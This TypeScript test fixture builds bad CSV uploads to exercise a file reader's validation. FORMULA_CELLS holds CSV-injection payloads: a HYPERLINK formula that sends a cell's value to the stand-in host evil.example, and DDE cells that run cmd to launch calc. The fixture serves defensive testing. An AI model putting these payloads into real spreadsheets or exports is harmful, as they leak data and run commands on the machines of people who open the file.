/** A file a real client or an attacker uploads, built from a valid sample of the kind. */
export interface BadFile {
  readonly name: string;
  readonly bytes: Buffer;
}

/** Cells that a spreadsheet runs as formulas (CSV injection), as the OWASP list has them. */
export const FORMULA_CELLS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const LINE_BREAK = '\r\n';
const BLANK_LINES = 33_000;

/** The line number of the line with bytes that are not UTF-8 (header, a good line, the blank lines). */
export const BROKEN_LINE = 2 + BLANK_LINES + 1;

/**
 * The bad variants of a good file (its header line and data lines): the header replaced by
 * columns the kind does not have; a line with bytes that are not UTF-8; the whole file in
 * UTF-16 with a BOM (what spreadsheets save as "Unicode text"); a line longer than the largest
 * record the reader takes; and lines whose every cell is a formula.
 */
export function badFilesOf(good: string, maxRecordBytes: number): BadFile[] {
  const [header, ...lines] = good.split(/\r?\n/).filter((line) => line !== '');
  const file = (rows: readonly string[]) => Buffer.from(rows.join(LINE_BREAK) + LINE_BREAK, 'utf8');
  const columns = header!.split(',').length;
  // A good line with bytes that are not UTF-8 at its end, after 64 KiB of blank lines (skipped
  // by every reader) so the file reads as UTF-8: the bad line is number BROKEN_LINE.
  const blanks = Buffer.from(LINE_BREAK.repeat(BLANK_LINES));
  const broken = Buffer.concat([
    Buffer.from(lines[1]!),
    Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
    Buffer.from(LINE_BREAK),
  ]);
  return [
    { name: 'wrong columns', bytes: file(['wrong,columns,entirely', ...lines]) },
    {
      name: 'bytes that are not UTF-8',
      bytes: Buffer.concat([file([header!, lines[0]!]), blanks, broken, file(lines.slice(2))]),
    },
    {
      name: 'UTF-16 with a BOM',
      bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([header!, ...lines].join(LINE_BREAK), 'utf16le')]),
    },
    {
      name: 'a line longer than the largest record',
      bytes: file([header!, lines[0]!, `"${'x'.repeat(maxRecordBytes + 1)}"`, ...lines.slice(1)]),
    },
    {
      name: 'formula-injection cells',
      bytes: file([
        header!,
        ...FORMULA_CELLS.map((cell) => Array.from({ length: columns }, () => csvCell(cell)).join(',')),
      ]),
    },
  ];
}

function csvCell(value: string): string {
  return `"${value.replaceAll('"', '""')}"`;
}
